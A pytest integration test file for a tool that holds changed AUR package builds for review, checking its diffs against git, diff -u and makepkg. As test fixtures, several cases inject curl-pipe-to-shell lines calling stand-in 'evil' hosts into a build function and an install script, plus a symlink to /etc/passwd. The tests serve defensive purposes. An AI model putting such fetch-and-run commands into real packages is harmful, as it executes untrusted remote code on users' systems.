"""vieter_lite.review against real tools: bundles made with `git archive` from real git
repositories shaped like AUR packages; Debian's makepkg --printsrcinfo as the oracle of
what a normalised PKGBUILD still declares; diff -u and git apply as oracles of the diffs."""

from __future__ import annotations

import os
import pwd
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from tests.pkgfactory import makepkg_available
from vieter_lite import review
from vieter_lite.errors import Invalid

pytestmark = [pytest.mark.integration,
              pytest.mark.skipif(not all(map(shutil.which, ("git", "diff"))),
                                 reason="needs git and diff")]
needs_makepkg = pytest.mark.skipif(not makepkg_available(), reason="needs makepkg (and a build user)")

CHECKSUM = "0123456789abcdef" * 4
PKGBUILD = f"""\
# Maintainer: Someone <someone at example dot invalid>
pkgname=hello-aur
pkgver=1.2.0
pkgrel=1
pkgdesc="A friendly greeter"
arch=('x86_64' 'aarch64')
url="https://example.com/hello"
license=('MIT')
depends=('glibc')
source=("https://example.com/hello/archive/v$pkgver.tar.gz"
        "fix-build.patch")
sha256sums=('{CHECKSUM}'
            '{CHECKSUM[::-1]}')
b2sums_aarch64=()

prepare() {{
  cd "hello-$pkgver"
  patch -Np1 -i ../fix-build.patch
}}

build() {{
  cd "hello-$pkgver"
  make
}}

package() {{
  cd "hello-$pkgver"
  make DESTDIR="$pkgdir" PREFIX=/usr install
}}
"""
SRCINFO = "pkgbase = hello-aur\n\tpkgver = 1.2.0\n\tpkgrel = 1\n"
PATCH = """\
--- a/Makefile
+++ b/Makefile
@@ -1,3 +1,3 @@
-CFLAGS = -O2 -Werror
+CFLAGS = -O2
 hello: hello.c
 \t$(CC) $(CFLAGS) -o $@ $<
"""
INSTALL = "post_install() {\n  echo 'run hello --setup once'\n}\n"


def _git(cwd: Path, *args: str) -> bytes:
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid",
                           "-c", "init.defaultBranch=master", *args], cwd=cwd, check=True,
                          capture_output=True).stdout


class AurRepo:
    """A git repository as the AUR serves them: PKGBUILD, .SRCINFO and the local files."""

    def __init__(self, path: Path):
        self.path = path
        path.mkdir()
        _git(path, "init", "-q")
        self.commit({"PKGBUILD": PKGBUILD, ".SRCINFO": SRCINFO, "fix-build.patch": PATCH})

    def text(self, name: str) -> str:
        return (self.path / name).read_text()

    def commit(self, files: dict[str, str | None]) -> None:
        for name, text in files.items():
            if text is None:
                (self.path / name).unlink()
            else:
                (self.path / name).parent.mkdir(parents=True, exist_ok=True)
                (self.path / name).write_text(text)
        _git(self.path, "add", "-A")
        _git(self.path, "commit", "-q", "-m", "update")

    def bundle(self) -> bytes:
        return _git(self.path, "archive", "--format=tar", "HEAD")

    def edit(self, name: str, old: str, new: str) -> None:
        text = self.text(name)
        assert old in text
        self.commit({name: text.replace(old, new, 1)})

    def bump(self) -> None:
        text = self.text("PKGBUILD").replace("pkgver=1.2.0", "pkgver=1.3.0")
        text = text.replace("pkgrel=1", "pkgrel=2").replace(CHECKSUM, "f" * 64)
        self.commit({"PKGBUILD": text, ".SRCINFO": SRCINFO.replace("1.2.0", "1.3.0")})


@pytest.fixture
def aur(tmp_path):
    return AurRepo(tmp_path / "hello-aur")


def _files(directory: Path) -> dict[str, bytes]:
    return {str(p.relative_to(directory)): p.read_bytes()
            for p in sorted(directory.rglob("*")) if p.is_file()}


def _write(directory: Path, files: dict[str, bytes]) -> None:
    directory.mkdir()
    for name, data in files.items():
        (directory / name).parent.mkdir(parents=True, exist_ok=True)
        (directory / name).write_bytes(data)


def _applied(old: dict[str, bytes], diff: str, tmp_path: Path) -> dict[str, bytes]:
    """Oracle: the files `old` becomes when git apply applies the diff to them."""
    work = tmp_path / "applied"
    _write(work, old)
    patch = tmp_path / "review.diff"
    patch.write_text(diff)
    subprocess.run(["git", "apply", "--whitespace=nowarn", str(patch)], cwd=work, check=True,
                   capture_output=True)
    return _files(work)


def _section(diff: str, path: str) -> str:
    """The hunks of one file's part of the diff."""
    part = diff.split(f"diff --git a/{path} b/{path}\n", 1)[1].split("\ndiff --git ", 1)[0]
    return part.split("\n+++ ", 1)[1].split("\n", 1)[1].rstrip("\n") + "\n"


def _diff_u(old: bytes, new: bytes, tmp_path: Path) -> str:
    """Oracle: GNU diff -u's hunks for the two texts (without its header lines)."""
    (tmp_path / "old").write_bytes(old)
    (tmp_path / "new").write_bytes(new)
    proc = subprocess.run(["diff", "-u", "old", "new"], cwd=tmp_path, capture_output=True, text=True)
    assert proc.returncode == 1, proc.stderr
    return proc.stdout.split("\n", 2)[2]


def _held(aur: AurRepo, change, tmp_path: Path) -> tuple[dict[str, bytes], dict[str, bytes], str]:
    """The source before and after `change`, and the diff that holds the build; checked
    against git apply (the diff turns the old source into the new one)."""
    old = review.read_bundle(aur.bundle())
    change()
    new = review.read_bundle(aur.bundle())
    diff = review.changes(old, new)
    assert diff is not None
    assert review.decide("changes", old, new) == diff
    assert _applied(old, diff, tmp_path) == new
    return old, new, diff


def test_git_archive_is_a_bundle(aur):
    data = aur.bundle()
    assert data[156:157] == b"g", "git archive starts with a pax global header (the commit id)"
    assert review.read_bundle(data) == {"PKGBUILD": PKGBUILD.encode(), "fix-build.patch": PATCH.encode()}


def test_a_version_bump_builds_without_review(aur):
    old = review.read_bundle(aur.bundle())
    aur.bump()
    new = review.read_bundle(aur.bundle())
    assert new != old
    assert review.changes(old, new) is None
    assert review.decide("changes", old, new) is None
    assert "-pkgver=1.2.0\n-pkgrel=1\n+pkgver=1.3.0\n+pkgrel=2\n" in review.decide("always", old, new)


def test_a_changed_build_function_is_held_with_its_lines(aur, tmp_path):
    old, new, diff = _held(aur, lambda: aur.edit(
        "PKGBUILD", "  make\n", "  make\n  curl -s https://evil.example/x | sh\n"), tmp_path)
    assert "   make\n+  curl -s https://evil.example/x | sh\n }\n" in diff
    assert _section(diff, "PKGBUILD") == _diff_u(old["PKGBUILD"], new["PKGBUILD"], tmp_path)


def test_a_bump_with_a_changed_build_function_is_held(aur, tmp_path):
    def change():
        aur.bump()
        aur.edit("PKGBUILD", "  make\n", "  make LDFLAGS=-static\n")
    old, new, diff = _held(aur, change, tmp_path)
    assert "-  make\n+  make LDFLAGS=-static\n" in diff
    assert "-pkgver=1.2.0\n-pkgrel=1\n+pkgver=1.3.0\n+pkgrel=2\n" in diff
    assert _section(diff, "PKGBUILD") == _diff_u(old["PKGBUILD"], new["PKGBUILD"], tmp_path)


def test_a_new_source_host_is_held(aur, tmp_path):
    def change():
        aur.bump()
        aur.edit("PKGBUILD", '        "fix-build.patch")\n',
                 '        "fix-build.patch"\n        "https://mirror.evil.example/hello.tar.gz")\n')
        aur.edit("PKGBUILD", f"'{CHECKSUM[::-1]}')", f"'{CHECKSUM[::-1]}'\n            'SKIP')")
    old, new, diff = _held(aur, change, tmp_path)
    assert '+        "https://mirror.evil.example/hello.tar.gz")\n' in diff
    assert _section(diff, "PKGBUILD") == _diff_u(old["PKGBUILD"], new["PKGBUILD"], tmp_path)


def test_a_new_install_script_is_held_and_shown_whole(aur, tmp_path):
    def change():
        aur.edit("PKGBUILD", "license=('MIT')\n", "license=('MIT')\ninstall=hello-aur.install\n")
        aur.commit({"hello-aur.install": INSTALL})
    old, new, diff = _held(aur, change, tmp_path)
    assert "+install=hello-aur.install\n" in diff
    assert ("diff --git a/hello-aur.install b/hello-aur.install\nnew file mode 100644\n"
            "--- /dev/null\n+++ b/hello-aur.install\n") in diff
    assert _section(diff, "hello-aur.install") == _diff_u(b"", new["hello-aur.install"], tmp_path)


def test_a_changed_install_script_alone_is_held(aur, tmp_path):
    aur.commit({"hello-aur.install": INSTALL})
    old, new, diff = _held(aur, lambda: aur.edit("hello-aur.install", "echo", "curl evil | sh; echo"),
                           tmp_path)
    assert re.findall("^diff --git a/(.*) b/", diff, re.M) == ["hello-aur.install"]
    assert _section(diff, "hello-aur.install") == _diff_u(old["hello-aur.install"],
                                                          new["hello-aur.install"], tmp_path)


def test_a_removed_patch_is_shown(aur, tmp_path):
    def change():
        aur.edit("PKGBUILD", '\n        "fix-build.patch")', ")")
        aur.edit("PKGBUILD", f"\n            '{CHECKSUM[::-1]}')", ")")
        aur.edit("PKGBUILD", "  patch -Np1 -i ../fix-build.patch\n", "")
        aur.commit({"fix-build.patch": None})
    old, new, diff = _held(aur, change, tmp_path)
    assert ("diff --git a/fix-build.patch b/fix-build.patch\ndeleted file mode 100644\n"
            "--- a/fix-build.patch\n+++ /dev/null\n") in diff
    assert "\n--CFLAGS = -O2 -Werror\n" in diff
    assert "-  patch -Np1 -i ../fix-build.patch\n" in diff
    assert _section(diff, "PKGBUILD") == _diff_u(old["PKGBUILD"], new["PKGBUILD"], tmp_path)


def test_the_first_build_shows_the_whole_source(aur, tmp_path):
    new = review.read_bundle(aur.bundle())
    diff = review.changes(None, new)
    assert _applied({}, diff, tmp_path) == new
    assert review.decide("always", None, new) == diff
    assert review.decide("never", None, new) is None


def test_a_big_patch_changed_in_two_places(aur, tmp_path):
    """Hunks joined and split as diff -u does, in a file of a few thousand lines."""
    big = "".join(f"+line {i} of a vendored patch\n" for i in range(3000))
    aur.commit({"vendor.patch": big})
    old, new, diff = _held(aur, lambda: aur.commit({"vendor.patch": big.replace(
        "+line 10 of", "+line ten of").replace("+line 16 of", "+line 16 in").replace(
        "+line 2990 of", "+line 2990 in")}), tmp_path)
    assert diff.count("\n@@ ") == 2
    assert _section(diff, "vendor.patch") == _diff_u(old["vendor.patch"], new["vendor.patch"], tmp_path)


def test_long_paths_and_executables_from_git(aur):
    long_name = "/".join(["patches", "a" * 80, "b" * 80, "fix.patch"])
    aur.commit({long_name: PATCH, "tools/gen.sh": "#!/bin/sh\n"})
    (aur.path / "tools/gen.sh").chmod(0o755)
    aur.commit({})
    files = review.read_bundle(aur.bundle())
    assert files[long_name] == PATCH.encode()
    assert files["tools/gen.sh"] == b"#!/bin/sh\n"


def test_a_symlink_committed_to_git_is_refused(aur):
    os.symlink("/etc/passwd", aur.path / "passwd")
    aur.commit({})
    with pytest.raises(Invalid) as caught:
        review.read_bundle(aur.bundle())
    assert caught.value.code == "bad_member"


# -- makepkg as the oracle of the normalised PKGBUILD ---------------------------------------

SUM_KEY = re.compile(r"\t(?:md5|sha1|sha224|sha256|sha384|sha512|b2|ck)sums(?:_\w+)? = ")


def _srcinfo(text: str) -> list[str]:
    """makepkg --printsrcinfo's lines for the PKGBUILD text, run as the build user."""
    work = Path(tempfile.mkdtemp(prefix="vieter-srcinfo-"))
    try:
        (work / "PKGBUILD").write_text(text)
        prefix: list[str] = []
        if os.geteuid() == 0:
            user = pwd.getpwnam(os.environ.get("VIETER_TEST_USER", "vieter-test"))
            os.chown(work, user.pw_uid, user.pw_gid)
            prefix = ["runuser", "-u", user.pw_name, "--"]
        proc = subprocess.run([*prefix, "env", "-i", "HOME=/tmp", "PATH=/usr/bin:/bin", "LANG=C.UTF-8",
                               "makepkg", "--printsrcinfo"], cwd=work, capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr + text
        return proc.stdout.splitlines()
    finally:
        shutil.rmtree(work)


ORACLE_CASES = {
    "an AUR package": (PKGBUILD, "pkgver=1.2.0\npkgrel=1\n"),
    "every checksum kind, arch variants, epoch": (
        "pkgname=x\npkgver='2.0'\npkgrel=3\nepoch=1\narch=(x86_64 aarch64)\nlicense=(MIT)\n"
        "source=(a b)\nsource_aarch64=(c)\n"
        + "".join(f"{k}sums=('1' SKIP)\n" for k in ("md5", "sha1", "sha224", "sha256", "sha384",
                                                     "sha512", "b2", "ck"))
        + "sha512sums_aarch64=(\n  \"abc\"\n)\nb2sums_x86_64=()\nepoch=2\n"
        "package() { :; }\n",
        "pkgver=2.0\npkgrel=3\nepoch=2\n"),
    "checksums appended in a block, comments in arrays": (
        "pkgname=y\npkgver=1\npkgrel=1\narch=(any)\nsource=(a b)  # both\n"
        "sha256sums=('aa' # a\n            'bb') # b\n"
        "if [[ -n $pkgver ]]; then\n  sha256sums+=('cc')\nfi\n"
        "pkgver() {\n  echo 9\n}\npackage() { :; }\n",
        "pkgver=1\npkgrel=1\n"),
    "a split package": (
        "pkgbase=z\npkgname=(z-a z-b)\npkgver=0.1.r4.gabc\npkgrel=1\narch=(any)\n"
        "source=(\"z::git+https://example.com/z.git\")\nmd5sums=(SKIP)\n"
        "package_z-a() { pkgdesc='A'; }\npackage_z-b() { depends=(z-a); }\n",
        "pkgver=0.1.r4.gabc\npkgrel=1\n"),
}


@needs_makepkg
@pytest.mark.parametrize("name", list(ORACLE_CASES))
def test_makepkg_reads_the_normalised_pkgbuild_the_same_but_version_and_checksums(name):
    """With its version set again before it, the normalised PKGBUILD declares to makepkg
    exactly what the original does, checksums apart; with another version set before it,
    makepkg sees that version and no checksums: every assignment of them was found."""
    text, version = ORACLE_CASES[name]
    normalised = review.normalise_pkgbuild(text)
    original = _srcinfo(text)
    assert any(SUM_KEY.match(line) for line in original)
    assert _srcinfo(version + normalised) == [line for line in original if not SUM_KEY.match(line)]
    other = _srcinfo("pkgver=0\npkgrel=0\n" + normalised)
    assert "\tpkgver = 0" in other and "\tpkgrel = 0" in other
    assert not [line for line in other if SUM_KEY.match(line) or line.startswith("\tepoch = ")]


# -- diff -u and git apply on generated edits -----------------------------------------------

_EDITS = st.lists(st.tuples(st.sampled_from("ird"), st.integers(0, 60)), min_size=1, max_size=6)


@given(st.integers(0, 60), _EDITS, st.booleans())
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_hunks_are_those_of_diff_u(tmp_path, length, edits, cut_newline):
    """Lines all different (so there is one best alignment): the same hunks as GNU diff."""
    a = [f"line {i}\n" for i in range(length)]
    b = list(a)
    for n, (op, at) in enumerate(edits):
        if op == "i":
            b.insert(min(at, len(b)), f"new {n}\n")
        elif at < len(b):
            b[at:at + 1] = [f"changed {n}\n"] if op == "r" else []
    old, new = "".join(a).encode(), "".join(b).encode()
    new = new.rstrip(b"\n") if cut_newline else new
    assume(old != new)
    diff = review.changes({"PKGBUILD": old}, {"PKGBUILD": new})
    assert _section(diff, "PKGBUILD") == _diff_u(old, new, tmp_path)


_TEXT = st.lists(st.sampled_from(["a\n", "b\n", "c\n", "\n", "  make\n", "x"]), max_size=30).map("".join)


@given(st.dictionaries(st.sampled_from(["PKGBUILD", "a.install", "p/fix.patch"]), _TEXT),
       st.dictionaries(st.sampled_from(["PKGBUILD", "a.install", "p/fix.patch"]), _TEXT))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_git_apply_turns_the_old_source_into_the_new(tmp_path_factory, old, new):
    """Repeated lines, files added and removed, no newline at the end: the diff applies."""
    old = {k: v.encode() for k, v in old.items()}
    new = {k: v.encode() for k, v in new.items()}
    diff = review.decide("always", old, new)
    if old == new:
        assert diff == review.ALWAYS_UNCHANGED
    else:
        assert _applied(old, diff, tmp_path_factory.mktemp("apply")) == new
